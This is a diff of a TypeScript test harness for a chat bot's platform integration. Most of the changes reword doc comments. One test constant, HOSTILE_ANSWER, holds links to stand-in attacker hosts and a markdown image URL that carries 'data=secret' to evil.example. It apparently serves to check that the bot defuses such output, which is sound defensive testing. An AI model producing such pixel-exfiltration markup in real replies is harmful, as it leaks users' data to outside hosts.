@@ -3,28 +3,28 @@ import { type ChatInbound, type ChatMessage, type ChatPlace, chatMessageSchema }
 import type { ChatOutbox, ChatSurface, PersonSettings, RenderedPart } from './platform.ts'
 import type { Progress, Reply } from './reply.ts'
 
-/** A person's message, in the platform's terms. */
+/** A person's message, as the platform knows it. */
 export interface SaidMessage {
   readonly messageId: string
   readonly place: ChatPlace
 }
 
-/** The current state of a bot's message. */
+/** A message of the bot, as the platform shows it now. */
 export interface SeenMessage {
   readonly id: string
-  /** The visible text, without markup. */
+  /** The text that people see, without markup. */
   readonly text: string
-  /** Whether it has the platform's rich form. */
+  /** Whether the message has the platform's rich form. */
   readonly isRich: boolean
-  /** Everyone whom the message would notify, in the platform's terms. */
+  /** Everyone whom the message would notify, as the platform writes it. */
   readonly pings: readonly string[]
-  /** Every address that it would link or load. */
+  /** Every address that the message would link or load. */
   readonly links: readonly string[]
-  /** The text of the attached files. */
+  /** The texts of the attached files. */
   readonly files: readonly string[]
 }
 
-/** A platform with two people (one of them asks) and a channel with the bot: real clients against an emulator. */
+/** A platform with a channel for the bot and two people, one of whom asks. Real clients talk to an emulator. */
 export interface ChatPlatformWorld {
   readonly surface: ChatSurface
   readonly outbox: ChatOutbox
@@ -34,25 +34,25 @@ export interface ChatPlatformWorld {
   whisper(text: string): SaidMessage
   changeOwn(message: SaidMessage, text: string): void
   deleteOwn(message: SaidMessage): void
-  /** Somebody else's bot writes and mentions ours. */
+  /** Another bot writes a message and mentions ours. */
   otherBotSays(text: string): SaidMessage
-  /** How many of a message's events exist, and how many are acknowledged. On a platform without acknowledgements, handled events count. */
+  /** Counts the events of a message, and those that are acknowledged. On a platform without acknowledgements, handled events count. */
   taken(message: SaidMessage): { readonly acknowledged: number; readonly events: number }
-  /** Makes the platform resend unacknowledged events. Does nothing if the surface itself keeps them. */
+  /** Makes the platform send unacknowledged events again. Does nothing if the surface itself keeps them. */
   redeliver(): void
-  /** Resolves when the condition holds; every change checks it again. */
+  /** Resolves when the condition holds. Each change of the platform checks the condition again. */
   waitFor(condition: () => boolean): Promise<void>
-  /** The visible messages and the requests so far, for a failed test's message. */
+  /** Returns the visible messages and all requests so far, for the message of a failed test. */
   describe(): string
-  /** The bot's messages in a thread, in order. */
+  /** Returns the bot's messages in a thread, in order. */
   seen(place: ChatPlace): readonly SeenMessage[]
-  /** The ids of all the bot's messages in the channel and its threads. */
+  /** Returns the ids of all the bot's messages in the channel and its threads. */
   everything(): readonly string[]
   readonly faults: {
     rateLimitNextPost(seconds: number): void
     rateLimitNextEdit(seconds: number): void
     loseNextPostAnswer(): void
-    /** The next post fails at once, and is stored when the returned function is called. */
+    /** Makes the next post fail at once. The returned function stores that post after all. */
     storeNextPostLate(): () => void
     refuseRichOnce(of: 'post' | 'edit'): void
     breakNextPost(): void
@@ -72,7 +72,7 @@ const HOSTILE_ANSWER = [
   'or <http://evil.example|this>, http://evil.example/bare, www.evil.example, evil.com/?q=1, bob@evil.com, evil.net:81 and ![chart](https://evil.example/pixel.png?data=secret). [Q1]',
 ].join('\n')
 
-/** The requirements for every platform; called from each platform's test. Each test creates and closes its own world. */
+/** Tests what every platform must do. Each platform's test calls it. Each test case creates and closes its own world. */
 export function describeChatPlatform(name: string, createWorld: () => Promise<ChatPlatformWorld>): void {
   describe(`${name} as a chat platform`, () => {
     let world: ChatPlatformWorld
@@ -87,7 +87,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
     })
     afterEach(() => world.close())
 
-    /** Records a call, and checks whether enough have arrived. */
+    /** Records a call. @returns whether enough calls have arrived */
     const called = (calls: ChatMessage[], message: ChatMessage) => {
       calls.push(message)
       for (const look of [...heard]) look()
@@ -151,7 +151,7 @@ export function describeChatPlatform(name: string, createWorld: () => Promise<Ch
         await world.waitFor(() => isTaken(first) && isTaken(second))
         const [one, other] = [acceptedOf(first)[0], acceptedOf(second)[0]]
         expect(one?.order).toBeLessThanOrEqual(other?.order ?? 0)
-        // Within one microsecond, the queue orders by id.
+        // Within one microsecond, the queue orders messages by id.
         if (one?.order === other?.order) expect(first.messageId < second.messageId).toBe(true)
       })
 
